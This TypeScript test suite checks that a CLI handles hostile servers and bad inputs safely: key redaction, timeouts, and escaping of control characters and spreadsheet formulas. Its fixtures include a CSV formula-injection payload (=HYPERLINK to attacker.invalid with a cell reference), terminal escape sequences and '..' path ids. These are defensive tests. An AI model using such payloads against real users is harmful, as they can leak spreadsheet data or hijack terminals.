/**
 * The regression suite of hostile servers and bad inputs, on the BUILT binary (dist/bin.js, run
 * `pnpm build` first): each case ends with the right exit code within a (generous, upper) time
 * bound, with one clear line, and no form of the key in stdout or stderr. The servers are the
 * simulator's `fault` modes on 127.0.0.1.
 */
import { mkdtempSync, rmSync, writeFileSync } from "node:fs"
import { createServer } from "node:net"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { afterAll, describe, expect, it } from "@effect/vitest"
import { type RunningSimulator, startSimulator } from "@taskhistory/simulator"
import type { FaultMode } from "@taskhistory/simulator/Simulator"
import { cleanEnv, type Result, run as runBin, simEnv } from "./utils/bin.js"

const dir = mkdtempSync(join(tmpdir(), "taskhistory-cli-hostile-"))

/** A key with the characters that change form in transit (JSON-escaped, URL-encoded). */
const KEY = 'sk_live_"hostile\\key/+=%41'

const sims: Array<RunningSimulator> = []
afterAll(async () => {
  await Promise.all(sims.map((s) => s.close()))
  rmSync(dir, { recursive: true, force: true })
})

const simulator = async (fault: FaultMode | ReadonlyArray<FaultMode> | undefined, records = 600) => {
  const sim = await startSimulator({
    records,
    seed: 3,
    apiKey: KEY,
    ...(fault === undefined ? {} : { fault })
  })
  sims.push(sim)
  return sim
}

const baseEnv = () => cleanEnv()
const envOf = simEnv
const run = (args: ReadonlyArray<string>, env: Record<string, string>) =>
  runBin(args, env, { timeoutMs: 120_000 })

/** No form of the key in either stream; nothing on stderr that could drive a terminal. */
const expectClean = (result: Result) => {
  for (const text of [result.stdout, result.stderr]) {
    for (const form of [
      KEY,
      JSON.stringify(KEY).slice(1, -1),
      encodeURIComponent(KEY),
      Buffer.from(KEY).toString("base64"),
      Buffer.from(`Bearer ${KEY}`).toString("base64")
    ]) {
      expect(text).not.toContain(form)
    }
  }
  // biome-ignore lint/suspicious/noControlCharactersInRegex: raw control characters must not reach stderr
  expect(result.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/)
}

/** One `error:` line (plus, at most, retry lines before it). */
const errorLine = (result: Result) => {
  const errors = result.stderr.split("\n").filter((l) => l.startsWith("error:"))
  expect(errors).toHaveLength(1)
  return errors[0] as string
}

const list = ["executions", "list", "--all", "--format", "ndjson"]

describe("hostile servers (simulator fault modes)", () => {
  it("malformed step records: get --format json prints the answer exactly as served, the table the valid steps and says which it left out", async () => {
    const sim = await simulator("malformed-steps")
    const id = (sim.dataset()[0] as { id: string }).id
    const served = await fetch(
      `${sim.url}/projects/${sim.projectId}/task-history/workflow-executions/${id}`,
      {
        headers: { authorization: `Bearer ${sim.apiKey}` }
      }
    )
    const answer = (await served.json()) as { stepExecutions: ReadonlyArray<unknown> }
    expect(answer.stepExecutions).toContain("not a step execution")
    const json = await run(["executions", "get", id, "--format", "json"], envOf(sim))
    expect(json.code, json.stderr).toBe(0)
    expect(JSON.parse(json.stdout)).toEqual(answer)
    const table = await run(["executions", "get", id], envOf(sim))
    expect(table.code, table.stderr).toBe(0)
    expect(table.stdout).not.toContain("not a step execution")
    // The steps it could not read are counted, by their place in the answer.
    // (the fault appends two: a record without an id, and a string)
    const places = [answer.stepExecutions.length - 1, answer.stepExecutions.length]
    expect(table.stdout).toMatch(
      new RegExp(
        `malformed\\s+${places.length} step record\\(s\\) not shown \\(#${places.join(", #")} of the answer: `
      )
    )
    expectClean(json)
    expectClean(table)
  })

  it("a body that never ends: exit 6 'response too large', without reading it all", async () => {
    const sim = await simulator("endless-body")
    const r = await run(list, envOf(sim))
    expect(r.code).toBe(6)
    expect(errorLine(r)).toContain("response too large")
    expect(r.ms).toBeLessThan(60_000)
    expectClean(r)
  })

  it("a 600 MB page: exit 6 at its headers", async () => {
    const sim = await simulator("huge-page")
    const r = await run(list, envOf(sim))
    expect(r.code).toBe(6)
    expect(errorLine(r)).toMatch(/response too large \(600 MiB announced/)
    expect(r.ms).toBeLessThan(60_000)
    expectClean(r)
  })

  it("headers that never come, or a body that stalls: exit 6 at the deadline (--timeout)", async () => {
    for (const fault of ["slow-headers", "stalled-body"] as const) {
      const sim = await simulator(fault)
      const r = await run([...list, "--timeout", "1s", "--max-retries", "1"], envOf(sim))
      expect(r.code).toBe(6)
      expect(errorLine(r)).toContain(
        fault === "slow-headers" ? "no answer (status and headers) within 1s" : "no complete answer within 1s"
      )
      expect(r.ms).toBeLessThan(60_000)
      expectClean(r)
      expect(sim.stats().requests).toBe(2)
    }
  })

  it("a server that ignores offset, or whose nextLink loops: exit 6 naming it, a handful of requests", async () => {
    for (const fault of ["ignore-offset", "looping-nextlink"] as const) {
      const sim = await simulator(fault)
      const r = await run(list, envOf(sim))
      expect(r.code).toBe(6)
      expect(errorLine(r)).toMatch(/nextLink does not move forward|pages already read/)
      expect(sim.stats().requests).toBeLessThanOrEqual(10)
      expect(r.ms).toBeLessThan(60_000)
      expectClean(r)
    }
  })

  it("Retry-After: 999999 or garbage: exit 5 quoting the header, one request", async () => {
    for (const [fault, header] of [
      ["retry-after-huge", '"999999"'],
      ["retry-after-garbage", '"soon-ish"']
    ] as const) {
      const sim = await simulator(fault)
      const r = await run(list, envOf(sim))
      expect(r.code).toBe(5)
      expect(errorLine(r)).toContain(`Retry-After: ${header}`)
      expect(sim.stats().requests).toBe(1)
      expect(r.ms).toBeLessThan(60_000)
      expectClean(r)
    }
  })

  it("a server that echoes the key (as it is, JSON-escaped, URL-encoded, base64): never printed", async () => {
    const sim = await simulator("echo-key")
    for (const args of [list, [...list, "--verbose"], ["executions", "count", "--verbose"]]) {
      const r = await run(args, envOf(sim))
      expect(r.code).toBe(6)
      expect(r.stderr).toContain("<redacted>")
      expectClean(r)
    }
  })

  it("terminal escapes in error bodies reach stderr escaped", async () => {
    const sim = await simulator("escape-errors")
    const r = await run([...list, "--max-retries", "0"], envOf(sim))
    expect(r.code).toBe(6)
    expect(errorLine(r)).toContain("maintenance\\x1b]0;pwned title\\x07")
    expectClean(r)
  })
})

describe("unreachable servers", () => {
  const freePort = () =>
    new Promise<number>((resolve) => {
      const server = createServer()
      server.listen(0, "127.0.0.1", () => {
        const address = server.address()
        const port = typeof address === "object" && address !== null ? address.port : 0
        server.close(() => resolve(port))
      })
    })

  it("connection refused: exit 6 within about 15 s, naming the origin", async () => {
    const port = await freePort()
    const r = await run(list, {
      ...baseEnv(),
      PARAGON_BASE_URL: `http://127.0.0.1:${port}`,
      PARAGON_PROJECT_ID: "p",
      PARAGON_API_KEY: KEY
    })
    expect(r.code).toBe(6)
    expect(errorLine(r)).toContain(`connection refused to http://127.0.0.1:${port}`)
    // about 15 s by default; generous for a loaded machine
    expect(r.ms).toBeLessThan(45_000)
    expectClean(r)
  })

  it("with --verbose, each retry is said on stderr before the final line", async () => {
    const port = await freePort()
    const r = await run([...list, "--verbose"], {
      ...baseEnv(),
      PARAGON_BASE_URL: `http://127.0.0.1:${port}`,
      PARAGON_PROJECT_ID: "p",
      PARAGON_API_KEY: KEY
    })
    expect(r.code).toBe(6)
    const retries = r.stderr.split("\n").filter((l) => l.startsWith("retrying in "))
    expect(retries.length).toBeGreaterThanOrEqual(3)
    expect(retries[0]).toContain("(attempt 2 of 9)")
    // the cause (with its stack) is printed with --verbose: the drain keeps it
    expect(r.stderr).toContain("TransportError")
    expectClean(r)
  })
})

describe("bad inputs: exit 2 before any request", () => {
  it("a key with a newline, CR/LF, NUL or a space inside", async () => {
    const sim = await simulator(undefined, 10)
    for (const [key, what] of [
      ["abc-123\ndef-456", "a newline"],
      ["abc-123\r\ndef-456", "a carriage return"],
      ["abc-123 def-456", "a space"]
    ] as const) {
      const r = await run(["executions", "count"], envOf(sim, { PARAGON_API_KEY: key }))
      expect(r.code).toBe(2)
      expect(errorLine(r)).toContain(`PARAGON_API_KEY contains ${what}`)
      expect(r.stderr).not.toContain("abc-123")
    }
    // a NUL cannot be in an environment variable: through a key file
    const nul = join(dir, "nul-key")
    writeFileSync(nul, "abc-123\u0000def-456\n")
    const r = await run(["executions", "count", "--api-key-file", nul], envOf(sim))
    expect(r.code).toBe(2)
    expect(errorLine(r)).toContain("contains a NUL character")
    expect(sim.stats().requests).toBe(0)
  })

  it("--api-key-file /dev/zero or a big file: exit 2 at once, memory untouched", async () => {
    const sim = await simulator(undefined, 10)
    const big = join(dir, "big-key")
    writeFileSync(big, "k".repeat(64 * 1024))
    for (const path of ["/dev/zero", big]) {
      const r = await run(["executions", "count", "--api-key-file", path], envOf(sim))
      expect(r.code).toBe(2)
      expect(errorLine(r)).toContain("at most 4 KiB")
      expect(r.ms).toBeLessThan(30_000)
    }
    expect(sim.stats().requests).toBe(0)
  })

  it("ids '', '.' and '..' are refused naming the id; nothing is sent", async () => {
    const sim = await simulator(undefined, 10)
    for (const args of [
      ["executions", "get", ".."],
      ["executions", "get", "."],
      ["executions", "get", ""],
      ["executions", "replay", ".."],
      ["executions", "step", "x", ".."]
    ]) {
      const r = await run(args, envOf(sim))
      expect(r.code).toBe(2)
      expect(errorLine(r)).toContain(JSON.stringify(args.at(-1)))
    }
    expect(sim.stats().requests).toBe(0)
  })

  it("--timeout, --connect-timeout and --wait without a unit are exit 2", async () => {
    const sim = await simulator(undefined, 10)
    for (const flag of ["--timeout", "--connect-timeout", "--wait"]) {
      const r = await run(["executions", "count", flag, "5"], envOf(sim))
      expect(r.code).toBe(2)
      expect(errorLine(r)).toContain(`invalid ${flag} "5"`)
    }
    expect(sim.stats().requests).toBe(0)
  })
})

describe("what a server sends cannot drive the terminal or a spreadsheet", () => {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: raw control characters
  const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/

  it("table output escapes control characters, piped or not; json and ndjson stay exact", async () => {
    const sim = await simulator("hostile-records", 30)
    const table = await run(["executions", "list", "--sort", "asc"], envOf(sim))
    expect(table.code).toBe(0)
    expect(table.stdout).not.toMatch(CONTROL)
    expect(table.stdout).toContain("user\\x1b]0;pwned title\\x07\\x1b[2J\\x9b31m-0")
    const ndjson = await run(["executions", "list", "--sort", "asc", "--format", "ndjson"], envOf(sim))
    const served = sim.dataset()
    const first = JSON.parse(ndjson.stdout.split("\n")[0] ?? "{}") as Record<string, unknown>
    expect(String(first.userId)).toContain("\u001b]0;pwned")
    expect(first.id).toBe(served[0]?.id)
    const usage = await run(["usage", "--by", "user"], envOf(sim))
    expect(usage.code).toBe(0)
    expect(usage.stdout).not.toMatch(CONTROL)
  })

  it("csv cells that a spreadsheet would run get a ' in front; --raw-csv keeps them", async () => {
    const sim = await simulator("hostile-records", 30)
    const csv = await run(["executions", "list", "--sort", "asc", "--format", "csv"], envOf(sim))
    expect(csv.code).toBe(0)
    const rows = csv.stdout
      .split("\n")
      .slice(1)
      .filter((l) => l !== "")
    for (const row of rows) expect(row).not.toMatch(/,[=+\-@]|,"[=+\-@]/)
    expect(csv.stdout).toContain(`"'=HYPERLINK(""http://attacker.invalid/?x=""&A1,""open"")"`)
    expect(csv.stdout).toContain(`,"'@SUM(1,2)"`)
    const raw = await run(["executions", "list", "--sort", "asc", "--format", "csv", "--raw-csv"], envOf(sim))
    expect(raw.stdout).toContain(`"=HYPERLINK(""http://attacker.invalid/?x=""&A1,""open"")"`)
    const usage = await run(["usage", "--by", "workflow", "--format", "csv"], envOf(sim))
    expect(usage.stdout).toContain("'=HYPERLINK")
    expect(usage.stdout).not.toMatch(/^[=+\-@]/m)
  })

  it("a bulk replay reports and skips ids '..' and '.' from the list: never sent, exit 6", async () => {
    const sim = await simulator("dot-ids", 30)
    const dry = await run(["executions", "replay", "--dry-run"], envOf(sim))
    expect(dry.code).toBe(6)
    expect(dry.stderr).toContain('skipped execution id ".." from the server')
    expect(dry.stderr).toContain('skipped execution id "." from the server')
    expect(dry.stdout.split("\n")).not.toContain("..")
    const real = await run(["executions", "replay", "--yes"], envOf(sim))
    expect(real.code).toBe(6)
    expect(errorLine(real)).toContain("2 execution id(s) that cannot be sent")
    const replays = sim.stats().replays
    expect(Object.keys(replays)).not.toContain("..")
    expect(Object.keys(replays)).not.toContain(".")
    expect(Object.keys(replays).length).toBe(28)
    // nothing went to .../task-history/replay or .../workflow-executions/replay
    expect(sim.stats().byRoute.other).toBe(0)
    expectClean(real)
  })
})
